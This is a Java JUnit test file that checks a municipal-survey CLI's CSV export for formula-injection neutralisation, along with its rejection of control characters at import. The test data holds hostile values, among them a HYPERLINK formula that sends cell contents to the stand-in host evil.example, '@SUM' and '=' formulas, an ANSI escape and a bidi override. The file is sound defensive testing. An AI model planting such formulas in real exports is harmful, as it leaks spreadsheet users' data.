package de.smartregion.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Names, ids and states that a spreadsheet would run as formulas reach compare's and trend's CSV as text (OWASP's
 * neutralisation: a leading {@code '}, the cell quoted), while the numbers the tool computed stay numbers.
 */
class CsvFormulaInjectionTest {

    private static final String Q = "src/test/resources/score/all-types.yaml";
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

    @TempDir
    static Path dir;

    private static Path cohort;

    /**
     * @01 "=HYPERLINK(...)" imported for 2025 (overall 100) and 2026 (16.67, a change of -83.33); -02 "-2+3" in
     * "+Bayern"; 03 a tab and "=1+2" in "x;=1+2"; 04 "@SUM(A1)" with a formula after a line break.
     */
    @BeforeAll
    static void cohort() throws IOException {
        cohort = dir.resolve("cohort");
        importSurvey("role,s1,c1\ncitizens,4,all\n", "2025");
        importSurvey("role,s1,c1\ncitizens,1,none\n", "2026");
        answers("b.yaml", "{id: \"-02\", name: \"-2+3\", state: \"+Bayern\"}", 3);
        answers("c.yaml", "{id: \"03\", name: \"\\t=1+2\", state: \"x;=1+2\"}", 2);
        answers("d.yaml", "{id: \"04\", name: \"@SUM(A1)\", state: \"a\\n-1\"}", 1);
    }

    private static void importSurvey(String csv, String period) throws IOException {
        Path survey = dir.resolve("survey-" + period + ".csv");
        Files.writeString(survey, csv);
        CliRun run = CliRun.run("import", survey.toString(), "-q", Q, "--municipality", "@01", "--name", HYPERLINK,
                "--period", period, "-o", cohort.toString());
        assertThat(run.exitCode()).as(run.describe()).isZero();
    }

    private static void answers(String file, String municipality, int s1) throws IOException {
        Files.writeString(cohort.resolve(file), "kind: assessment\nquestionnaire: all-types@1\nmunicipality: "
                + municipality + "\nperiod: \"2026\"\nanswers: {s1: " + s1 + "}\n");
    }

    @Test
    void compareWritesHostileTextAsTextAndScoresAsNumbers() {
        CliRun run = CliRun.run("compare", "-q", Q, cohort.toString(), "-f", "csv", "--group-by", "state");
        assertThat(run.exitCode()).as(run.describe()).isZero();
        List<List<String>> rows = parse(run.out(), ',');
        List<String> header = rows.get(0);
        assertThat(header.subList(0, 12)).containsExactly("rank", "id", "name", "period", "state", "type",
                "population", "overall", "stage", "coverage", "percentile", "group");
        assertThat(rows).hasSize(5);
        assertThat(rows.get(1).subList(1, 5)).containsExactly("'-02", "'-2+3", "2026", "'+Bayern");
        assertThat(rows.get(2).subList(1, 5)).containsExactly("03", "'\t'=1+2", "2026", "x;'=1+2");
        assertThat(rows.get(3).subList(1, 5)).containsExactly("04", "'@SUM(A1)", "2026", "a\n'-1");
        assertThat(rows.get(4).subList(1, 3)).containsExactly("'@01", "'" + HYPERLINK);
        assertThat(rows.get(4).get(11)).isEqualTo("unknown");
        assertThat(rows.get(1).get(11)).isEqualTo("'+Bayern");
        for (List<String> row : rows.subList(1, rows.size())) {
            for (int c : new int[] {1, 2, 3, 4, 5, 8, 11}) {
                assertNoFormula(row.get(c));
            }
            for (int c : new int[] {0, 7, 9, 10}) {
                assertThat(row.get(c)).as("%s of %s", header.get(c), row).matches("-?\\d+(\\.\\d{1,2})?");
            }
        }
        // as written: the neutralised cell quoted, its quotes doubled
        assertThat(run.out()).contains(",\"'@01\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",2026,");
    }

    @Test
    void excelDeNeutralisesAlikeAndQuotesTheSemicolon() {
        CliRun run = CliRun.run("compare", "-q", Q, cohort.toString(), "-f", "csv", "--group-by", "state",
                "--csv-dialect", "excel-de");
        assertThat(run.exitCode()).as(run.describe()).isZero();
        assertThat(run.out()).startsWith("\uFEFFrank;id;name;");
        List<List<String>> rows = parse(run.out(), ';');
        assertThat(rows).hasSize(5);
        assertThat(rows.get(1).subList(1, 5)).containsExactly("'-02", "'-2+3", "2026", "'+Bayern");
        assertThat(rows.get(2).subList(1, 5)).containsExactly("03", "'\t'=1+2", "2026", "x;'=1+2");
        assertThat(rows.get(3).subList(1, 5)).containsExactly("04", "'@SUM(A1)", "2026", "a\n'-1");
        assertThat(rows.get(4).subList(1, 3)).containsExactly("'@01", "'" + HYPERLINK);
        for (List<String> row : rows.subList(1, rows.size())) {
            for (int c : new int[] {1, 2, 3, 4, 5, 8, 11}) {
                assertNoFormula(row.get(c));
            }
            for (int c : new int[] {0, 7, 9, 10}) {
                assertThat(row.get(c)).as("%s of %s", rows.get(0).get(c), row).matches("-?\\d+(,\\d{1,2})?");
            }
        }
        // the cell holding the separator is quoted
        assertThat(run.out()).contains(";\"x;'=1+2\";");
    }

    @Test
    void trendInExcelDeKeepsAFallAsANegativeNumberWithADecimalComma() {
        CliRun run = CliRun.run("trend", "-q", Q, cohort.toString(), "-f", "csv", "--csv-dialect", "excel-de");
        assertThat(run.exitCode()).as(run.describe()).isZero();
        assertThat(run.out()).contains(";all-types@1;16,67;-83,33;starter;");
    }

    @Test
    void trendKeepsAFallAsANegativeNumber() {
        CliRun run = CliRun.run("trend", "-q", Q, cohort.toString(), "-f", "csv");
        assertThat(run.exitCode()).as(run.describe()).isZero();
        List<List<String>> rows = parse(run.out(), ',');
        assertThat(rows.get(0).subList(0, 6)).containsExactly("id", "name", "period", "questionnaire", "overall",
                "change");
        List<String> fell = rows.stream().filter(r -> r.get(0).equals("'@01") && r.get(2).equals("2026"))
                .findFirst().orElseThrow();
        assertThat(fell.subList(1, 6)).containsExactly("'" + HYPERLINK, "2026", "all-types@1", "16.67", "-83.33");
        // unquoted: a spreadsheet reads it as the number it is
        assertThat(run.out()).contains(",all-types@1,16.67,-83.33,starter,");
        for (List<String> row : rows.subList(1, rows.size())) {
            for (int c : new int[] {0, 1, 2, 3, 6}) {
                assertNoFormula(row.get(c));
            }
        }
    }

    @Test
    void importRefusesABlankNameOrIdAndControlCharacters() {
        String survey = dir.resolve("survey-2025.csv").toString();
        Path out = dir.resolve("refused");
        // municipality id and name as given: {option, id, name}
        for (String[] given : new String[][] {{"--name", "01", ""}, {"--name", "01", "  \t "},
            {"--municipality", " ", "Name"}}) {
            CliRun run = CliRun.run("import", survey, "-q", Q, "--municipality", given[1], "--name", given[2],
                    "--period", "2026", "-o", out.toString());
            assertThat(run.exitCode()).as(run.describe()).isEqualTo(ExitCode.USAGE.code());
            assertThat(run.err()).as(run.describe()).startsWith(given[0] + " is empty; give a value");
        }
        CliRun escape = CliRun.run("import", survey, "-q", Q, "--municipality", "01", "--period", "2026",
                "--name", "Ok\u001b[32m town", "-o", out.toString());
        assertThat(escape.exitCode()).as(escape.describe()).isEqualTo(ExitCode.USAGE.code());
        assertThat(escape.err()).startsWith("--name contains the control character U+001B; give plain text");
        CliRun bidi = CliRun.run(CliRun.GERMAN, "import", survey, "-q", Q, "--municipality", "0\u202e1",
                "--period", "2026", "-o", out.toString());
        assertThat(bidi.exitCode()).as(bidi.describe()).isEqualTo(ExitCode.USAGE.code());
        assertThat(bidi.err()).startsWith("--municipality enthält das Steuerzeichen U+202E");
        assertThat(out).doesNotExist();
    }

    /** Neither the cell nor any part a spreadsheet might split off at a semicolon, tab or line break is a formula. */
    private static void assertNoFormula(String cell) {
        for (String part : cell.split("[;\t\r\n]", -1)) {
            assertThat(part.strip()).as("part of cell [%s]", cell).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@");
        }
    }

    /** RFC 4180 with {@code separator}, as a spreadsheet set to it reads it (a byte order mark read past). */
    private static List<List<String>> parse(String csv, char separator) {
        assertThat(csv).endsWith("\r\n");
        if (csv.startsWith("\uFEFF")) {
            csv = csv.substring(1);
        }
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char ch = csv.charAt(i);
            if (quoted) {
                if (ch == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (ch == '"') {
                    quoted = false;
                } else {
                    cell.append(ch);
                }
            } else if (ch == '"') {
                quoted = true;
            } else if (ch == separator) {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (ch == '\r' && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(ch);
            }
        }
        return rows;
    }
}
